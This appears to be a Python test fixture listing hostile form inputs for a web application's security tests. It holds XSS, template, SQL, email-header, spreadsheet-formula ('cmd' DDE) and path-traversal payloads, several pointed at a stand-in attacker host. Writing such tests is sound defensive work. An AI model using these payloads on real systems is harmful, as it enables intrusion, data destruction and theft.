"""What somebody hostile types. Values that do not get in each other's way stand in one, to be sent at once."""

from __future__ import annotations

from tests.attack.reading import EVIL

MARKUP = (
    "</textarea></title></script>--><script>vfm_ran()</script><img src=x onerror=vfm_ran()>"
    "<svg onload=vfm_ran()><animate onbegin=vfm_ran()></svg><vfmx>"
    f"<a href=javascript:vfm_ran()>x</a><iframe srcdoc='<script>parent.vfm_ran()</script>'><base href=//{EVIL}/>"
)
ATTRIBUTES = f'"\'` onfocus=vfm_ran() autofocus x="\' style="background:url(//{EVIL}/)" formaction=javascript:vfm_ran() &quot;'
MARKDOWN = f"[x](javascript:vfm_ran()) ![x](//{EVIL}/a.png) <https://{EVIL}> [x]: javascript:vfm_ran()\n\n<vfmx onclick=1>\n"
TEMPLATES = "{{7*191}} {% for x in [].__class__.__mro__ %}{{x}}{% endfor %} ${7*191} #{7*191} %s %n %(x)s {0.__class__} {x!r:>99}"
SQL = "'; DROP TABLE project; -- \" OR 1=1 UNION SELECT digest FROM link /* % _ \\"
HEADERS = f"Subject\r\nBcc: everybody@{EVIL}\r\nX-Injected: yes\r\n\r\n<vfmx>\nTo: x@{EVIL}\x0bX-Injected: yes\u2028X-Injected: yes\x85"
UNICODE = (
    "\u202eevil\u202c \u2066x\u2069 \u200b\u200d\ufeff\ufffe \U0001f469\u200d\U0001f692\U0001f1ec\U0001f1e7 "
    + "Z"
    + "\u0300\u0489" * 40
    + " ß ı İ ﬃ \U000e0041 ａ ٣ 一"
)
CONTROL = "a\x00b\x01c\x08\x1b[31md\x7fe\x9ff"
VALUES = {
    "empty": "",
    "blank": " \t\u00a0\u3000\n ",
    "long": "vfmx <vfmx> " * 8_400,  # 100,000 characters
    "one long word": "x" * 5_000,
    "markup": MARKUP,
    "attributes": ATTRIBUTES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "sql": SQL,
    "headers": HEADERS,
    "unicode": UNICODE,
    "control": CONTROL,
    "formula": f"=HYPERLINK(\"//{EVIL}/\"&A1)+cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd%00 ..\\..\\ /dev/zero file:///etc/passwd C:\\con\\con",
    "number": "9" * 400,
    "minus": "-1",
    "not a number": "NaN Infinity 1e999 0x7f ١٢ ½ −5",
    "day": "31/02/2026",
    "json": '{"$ne": null, "__proto__": {"x": 1}, "choice": ["approve"]}',
    "address": f"head@wrenfold.example, x@{EVIL}\r\nRCPT TO:<x@{EVIL}>",
}
"""Name → what is typed."""

BODIES: list[tuple[str, bytes]] = [
    ("application/x-www-form-urlencoded", b"a=%ff%fe&title=%ed%a0%80%80&choice=%c0%af&nonce=%00&=&&=x&%=%zz"),
    ("application/x-www-form-urlencoded; charset=utf-16", b"\xff\xfet\x00=\x00\xd8"),
    ("application/json", b'{"choice": "approve", "title": {"x": [1]}}'),
    (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="title"\r\n\r\n\xff\r\n--x--\r\n',
    ),
    ("multipart/form-data", b"no boundary"),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: nonsense\r\n\r\n"),
    ("text/plain", b""),
]
"""Content types and bodies that no browser of a person sends."""
